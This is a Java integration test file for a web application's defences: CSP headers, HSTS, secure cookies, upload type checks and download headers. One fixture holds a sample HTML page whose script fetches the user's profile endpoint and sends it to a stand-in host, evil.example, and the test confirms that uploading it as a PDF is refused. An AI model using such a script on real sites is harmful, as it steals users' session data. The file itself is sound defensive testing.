package org.healthedu.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The web layer's defences as a browser or an attacker meets them: the Content-Security-Policy of pages and the API,
 * HSTS and Secure cookies only over TLS, uploads judged by their bytes and names, downloads that a browser can
 * neither render nor sniff.
 */
class WebDefencesIT extends AppIT {

    private static final HttpClient CLIENT = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final byte[] PDF = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
            .getBytes(StandardCharsets.US_ASCII);
    private static final byte[] PNG = java.util.Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
    private static final byte[] PAGE = ("<!DOCTYPE html><html><head><title>项目文本</title></head><body>"
            + "<script>fetch('/api/v1/me').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?'"
            + " + encodeURIComponent(t))</script></body></html>").getBytes(StandardCharsets.UTF_8);

    private HttpResponse<String> raw(String path, String... headers) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(base().resolve(path)).timeout(Duration.ofSeconds(60));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return CLIENT.send(request.GET().build(), HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void pagesCarryANoncedPolicyWithoutOutsideOrigins() throws Exception {
        HttpResponse<String> login = raw("login.xhtml");
        String csp = login.headers().firstValue("Content-Security-Policy").orElse("");
        assertThat(csp).contains("default-src 'self'").contains("object-src 'none'").contains("base-uri 'self'")
                .contains("form-action 'self'").contains("frame-ancestors 'none'").doesNotContain("http")
                .doesNotContain("unsafe-eval").containsPattern("script-src 'self' 'nonce-[A-Za-z0-9+/=_-]{16,}'");
        assertThat(csp.substring(csp.indexOf("script-src"))).doesNotContain("unsafe-inline");
        String nonce = csp.replaceAll("(?s).*'nonce-([^']+)'.*", "$1");
        assertThat(login.body()).as("the page's own scripts carry the nonce").contains("nonce=\"" + nonce + "\"");
        assertThat(login.headers().allValues("Content-Security-Policy")).as("one policy, not two").hasSize(1);

        String again = raw("login.xhtml").headers().firstValue("Content-Security-Policy").orElse("");
        assertThat(again).as("a fresh nonce per response").isNotEqualTo(csp);
    }

    @Test
    void theApiHasAPolicyThatAllowsNothing() throws Exception {
        for (String path : List.of("api/v1/health", "api/v1/units/roots")) {
            HttpResponse<String> reply = raw(path);
            assertThat(reply.headers().allValues("Content-Security-Policy")).as(path)
                    .containsExactly("default-src 'none'; frame-ancestors 'none'");
            assertThat(reply.headers().firstValue("X-Content-Type-Options")).as(path).hasValue("nosniff");
        }
    }

    @Test
    void strictTransportSecurityAndSecureCookiesOnlyOverTls() throws Exception {
        HttpResponse<String> plain = raw("login.xhtml");
        assertThat(plain.headers().firstValue("Strict-Transport-Security")).as("plain HTTP: no HSTS").isEmpty();
        assertThat(plain.headers().firstValue("Set-Cookie").orElse("")).contains("JSESSIONID")
                .doesNotContainIgnoringCase("secure");

        // What the TLS-terminating proxy on this host sends.
        HttpResponse<String> proxied = raw("login.xhtml", "X-Forwarded-Proto", "https");
        assertThat(proxied.headers().firstValue("Strict-Transport-Security"))
                .hasValue("max-age=31536000; includeSubDomains");
        assertThat(proxied.headers().firstValue("Set-Cookie").orElse("")).contains("JSESSIONID")
                .containsIgnoringCase("; secure")
                .contains("HttpOnly").contains("SameSite=Lax");
    }

    @Test
    void aPageDisguisedAsAPdfIsRefusedAndNothingIsStored() {
        long projectId = wuxiProject();
        String texts = "api/v1/projects/" + projectId + "/texts";
        long filesBefore = Db.count("select count(*) from stored_file");

        Api.Reply page = api("wuxi.coord").postBytes(texts + "?filename=" + name("项目文本.pdf"), "application/pdf", PAGE);
        assertProblem(page, 400, "error.file.type", "file");
        assertThat(page.string("detail")).contains("pdf");

        Api.Reply renamed = api("wuxi.coord").postBytes(texts + "?filename=" + name("项目文本.html"), "text/html", PDF);
        assertProblem(renamed, 400, "web.upload.contentMismatch", "file");
        assertThat(renamed.string("detail")).isEqualTo("文件名（.html）与文件内容（pdf）不符：请以与内容相符的文件名重新上传。");

        long fundUse = api("wuxi.coord").post("api/v1/projects/" + projectId + "/funds",
                "{\"spentOn\":\"2026-05-12\",\"category\":\"VENUE\",\"amountCny\":1,\"note\":null}").id();
        assertProblem(api("wuxi.coord").inEnglish().putBytes("api/v1/fund-uses/" + fundUse + "/receipt?filename="
                + name("票据.pdf"), "application/pdf", PNG), 400, "web.upload.contentMismatch", "file");

        assertThat(Db.count("select count(*) from stored_file")).as("nothing stored").isEqualTo(filesBefore);
        assertThat(Db.count("select count(*) from project_text where project_id = ?", projectId)).isZero();
    }

    @Test
    void downloadsAreAttachmentsWithTheirRecognisedTypeAndAnEncodedChineseName() {
        long projectId = wuxiProject();
        String texts = "api/v1/projects/" + projectId + "/texts";
        long textId = api("wuxi.coord").postBytes(texts + "?filename=" + name("项目文本 “终稿”.pdf"),
                "text/html", PDF).id();

        HttpResponse<byte[]> stored = api("wuxi.coord").download(texts + "/" + textId + "/file");
        assertThat(stored.statusCode()).isEqualTo(200);
        assertThat(stored.headers().firstValue("Content-Type")).as("what the bytes are, not what was claimed")
                .hasValue("application/pdf");
        assertThat(stored.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(stored.headers().firstValue("Content-Disposition")).hasValue(
                "attachment; filename=\"____ ____.pdf\"; filename*=UTF-8''"
                        + "%E9%A1%B9%E7%9B%AE%E6%96%87%E6%9C%AC%20%E2%80%9C%E7%BB%88%E7%A8%BF%E2%80%9D.pdf");

        HttpResponse<byte[]> export = api("wuxi.coord").download("api/v1/figures/projects/" + projectId + "/units/"
                + Db.unitId("JS-WX") + "/xlsx?period=2026Q3");
        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(export.headers().firstValue("Content-Type").orElse(""))
                .startsWith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(export.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(export.headers().firstValue("Content-Disposition").orElse("")).startsWith("attachment; filename=\"")
                .contains("filename*=UTF-8''").endsWith(".xlsx");
    }

    private long wuxiProject() {
        Api.Reply reply = api("wuxi.coord").post("api/v1/projects", "{\"code\":\"" + uniqueCode("wd")
                + "\",\"nameZh\":\"防护测试项目\",\"funderUnitId\":" + Db.unitId("CFPA") + ",\"ownerUnitId\":"
                + Db.unitId("JS-WX") + ",\"startDate\":\"2026-04-01\",\"endDate\":\"2026-12-31\",\"budgetCny\":10000}");
        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        return reply.id();
    }

    private static String name(String fileName) {
        return URLEncoder.encode(fileName, StandardCharsets.UTF_8);
    }
}
